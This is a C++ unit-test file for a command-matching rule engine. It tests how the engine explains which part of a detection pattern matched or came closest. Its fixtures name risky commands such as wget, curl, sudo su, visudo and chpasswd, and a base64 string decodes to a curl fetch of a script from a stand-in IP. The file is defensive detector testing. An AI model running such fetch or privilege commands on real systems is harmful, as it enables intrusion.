// SPDX-License-Identifier: Apache-2.0
#include "rule/explain.hpp"

#include <doctest/doctest.h>

#include "rule/pattern_parts.hpp"
#include "rule/secret_field.hpp"
#include "support.hpp"

namespace ttp::rule::explain_test {

namespace {

/// "prefix → found text", or nothing.
std::string reach(const std::string& pattern, const std::string& text, bool nocase = false) {
  RegexScratch scratch;
  rule::PrefixFinder finder(scratch);
  const auto prefix = finder.find(pattern, {nocase, false}, text);
  if (!prefix) return "-";
  return prefix->text + " → " +
         text.substr(prefix->span.begin, prefix->span.end - prefix->span.begin);
}

struct Traced {
  std::unique_ptr<rule::RuleSet> rules;
  test::OwnedEvent event;
  rule::Tracer tracer;
  rule::Trace trace;

  Traced(const std::string& match, const std::string& payload)
      : rules(test::rules_from({test::rule_yaml(match)})),
        event("command", payload),
        tracer(rules->fields(), rule::FieldRules::ours, false) {
    tracer.bind(event);
    trace = tracer.trace(rules->pattern_rules("command").front().match);
  }
};

}  // namespace

TEST_CASE("the longest beginning of a pattern that is found is found") {
  CHECK(reach("wget http", "wget ftp://x") == "wget  → wget ");
  CHECK(reach("wget", "ls") == "-");
  CHECK(reach(R"(\bcurl\b.*https?://)", "curl -o x ftp://y") == R"(\bcurl\b.* → curl -o x ftp://y)");
  // Inside groups, of the alternative that comes furthest.
  CHECK(reach(R"(sudo\s+(?:su|-i|visudo)\b)", "sudo visual") == R"(sudo\s+(?:visu → sudo visu)");
  CHECK(reach("a(?:b(?:c(?:d|ef)|x)|y)z", "abceg") == "a(?:b(?:c(?:e → abce");
  // Of whole alternatives, the settings in front counting for all of them.
  CHECK(reach("(?i)abcdef|uvwxyz", "UVWXY") == "(?i)uvwxy → UVWXY");
  CHECK(reach("abc", "xABx", true) == "ab → AB");
  // A look-around is all or nothing.
  CHECK(reach("a(?!bc)b+d", "abc abb") == "a(?!bc)b+ → abb");
  CHECK(reach("(?<=x)ab", "xac") == "(?<=x)a → a");
  // Optional parts are no progress, classes and counts are.
  CHECK(reach("x?y*z", "aaa") == "-");
  CHECK(reach(R"([a-f]{2,3}\d{4}!)", "abc1234?") == R"([a-f]{2,3}\d{4} → abc1234)");
  CHECK(reach(R"((a)(b)\2\1c)", "abbad") == R"((a)(b)\2\1 → abba)");
}

TEST_CASE("how close a pattern came grows with the part of it that is found") {
  RegexScratch scratch;
  rule::PrefixFinder finder(scratch);
  const auto near = finder.find("abcdefgh", {}, "abcdefg");
  const auto far = finder.find("abcdefgh", {}, "abx");
  REQUIRE(near);
  REQUIRE(far);
  CHECK(near->matched == 7);
  CHECK(near->parts == 8);
  CHECK(near->next == "h");
  CHECK(far->matched == 2);
  CHECK(far->next == "cdefgh");
  CHECK(near->closeness() > far->closeness());
  CHECK(near->closeness() < 1);
}

TEST_CASE("the parts of a pattern cover it without a gap") {
  for (const std::string pattern :
       {R"(\Qa.b\E[]\]x[:alpha:]]+?(?<n>\k<n>|\p{Lu}{2}|\x{41}\x41\012)\g{-1}(?#c)(*UCP)|^$)",
        R"((?>a|b)(?|c|d)(?i:e)(?-i)(?1)(?&n)(?P<m>f)(?P=m)(?(1)g|h){0,2}é\é\cA\N{U+41})",
        R"([^]a]{x}{,3}{1}{2,}+)"}) {
    for (const auto& alternative : rule::split_pattern(pattern)) {
      std::size_t at = alternative.empty() ? 0 : alternative.front().begin;
      for (const auto& part : alternative) {
        CHECK(part.begin == at);
        CHECK(part.end > part.begin);
        at = part.end;
      }
      CHECK((at == pattern.size() || pattern[at] == '|'));
    }
  }
}

TEST_CASE("beginnings of literal texts") {
  using rule::PrefixFinder;
  const auto anywhere = PrefixFinder::find_literal("chpasswd", false, false, "ch; chpass x");
  REQUIRE(anywhere);
  CHECK(anywhere->text == "chpass");
  CHECK(anywhere->span.begin == 4);
  CHECK(anywhere->next == "wd");
  CHECK_FALSE(PrefixFinder::find_literal("abc", false, true, "xabc"));
  CHECK(PrefixFinder::find_literal("ABC", true, true, "abx")->text == "AB");
  CHECK(PrefixFinder::find_literal("é1", false, false, "é2")->text == "é");
}

TEST_CASE("what failed first: of all the first, of any the closest") {
  const Traced all("{all: [{contains: curl}, {contains: http}, {contains: zzz}]}",
                   R"({"command_text":"curl ftp://x"})");
  CHECK_FALSE(all.trace.holds);
  CHECK(all.trace.has_substance);
  CHECK(rule::first_failure(all.trace).match->value->text == "http");
  const Traced any("{any: [{pattern: 'xyz'}, {pattern: 'curl http'}, {pattern: 'qqq'}]}",
                   R"({"command_text":"curl ftp://x"})");
  CHECK(rule::first_failure(any.trace).match->value->text == "curl http");
  const Traced negated("{all: [{contains: curl}, {not: {contains: ftp}}]}",
                       R"({"command_text":"curl ftp://x"})");
  CHECK(rule::first_failure(negated.trace).match->kind == rule::Match::Kind::negation);
  CHECK(rule::holding_tests(rule::first_failure(negated.trace).children.front()).size() == 1);
}

TEST_CASE("each test that holds says where") {
  const Traced traced("{all: [{contains: curl}, {any: [{pattern: 'x'}, {pattern: 'h..p'}]}]}",
                      R"({"command_text":"a curl http"})");
  CHECK(traced.trace.holds);
  CHECK(traced.trace.closeness == 1);
  const auto tests = rule::holding_tests(traced.trace);
  REQUIRE(tests.size() == 2);
  CHECK(tests[0]->fields[0].span->begin == 2);
  CHECK(tests[1]->fields[0].span->begin == 7);
  CHECK(tests[1]->fields[0].span->end == 11);
}

TEST_CASE("what must be missing is no sign of closeness") {
  const Traced traced("{all: [{not: {contains: x}}, {contains: curl}]}",
                      R"({"command_text":"ls"})");
  CHECK_FALSE(traced.trace.has_substance);
}

TEST_CASE("a statement's trace names the statement that came closest, or that holds") {
  const Traced near("{scope: statement, all: [{field: argv0, equals: curl}, {field: args, contains: x}]}",
                    R"({"command_text":"ls z; curl y; id"})");
  CHECK_FALSE(near.trace.holds);
  CHECK(near.trace.part == "curl y");
  CHECK(rule::first_failure(near.trace).fields[0].operand.text == "y");
  const Traced exact("{scope: statement, field: argv0, equals: id}",
                     R"({"command_text":"ls x; curl y; sudo id"})");
  CHECK(exact.trace.holds);
  CHECK(exact.trace.part == "sudo id");
  const Traced decoded("{decode: [base64], pattern: '^curl'}",
                       R"({"command_text":"echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveC5zaA=="})");
  CHECK(decoded.trace.holds);
  CHECK(decoded.trace.part == "curl http://203.0.113.9/x.sh");
  const Traced none("{scope: statement, field: argv0, equals: id}", R"({"other":1})");
  CHECK_FALSE(none.trace.holds);
  CHECK(&rule::first_failure(none.trace) == &none.trace);
}

TEST_CASE("no beginning is sought in secret fields") {
  const Traced traced("{field: password, contains: hunter2}", R"({"password":"hunter1"})");
  CHECK_FALSE(traced.trace.holds);
  CHECK_FALSE(traced.trace.fields[0].prefix);
  CHECK(rule::is_secret_field("login.Password"));
  CHECK(rule::is_secret_field("body_text"));
  CHECK_FALSE(rule::is_secret_field("password_count"));
}

TEST_CASE("traces agree with the engine over the shipped pack and its examples") {
  rule::RuleSource source;
  source.directory = test::data_path("../rules/ttp");
  const auto loaded = rule::load_rules(source);
  const rule::RuleSet& rules = *loaded.set;
  rule::Tracer tracer(rules.fields(), rule::FieldRules::ours, false);
  rule::FieldCache fields(rules.fields(), rule::FieldRules::ours);
  rule::MatchScratch scratch;
  rule::MatchContext context{fields, scratch};
  std::size_t held = 0;
  std::size_t pairs = 0;
  for (const rule::Rule& rule : rules.rules()) {
    std::vector<std::string> texts = rule.examples.match;
    texts.insert(texts.end(), rule.examples.no_match.begin(), rule.examples.no_match.end());
    for (const std::string& text : texts) {
      std::string payload = "{\"command_text\":";
      append_json_string(payload, text);
      const test::OwnedEvent event("command", payload + "}");
      tracer.bind(event);
      fields.bind(event);
      for (const rule::KindRule& candidate : rules.pattern_rules("command")) {
        // Of other rules' examples, which mostly do not match, each eighth.
        if (candidate.rule != &rule && ++pairs % 8 != 0) continue;
        const bool matches = candidate.match.matches(context);
        CAPTURE(text);
        CHECK(tracer.trace(candidate.match).holds == matches);
        held += matches ? 1 : 0;
      }
    }
  }
  CHECK(held > 100);
}

}  // namespace ttp::rule::explain_test
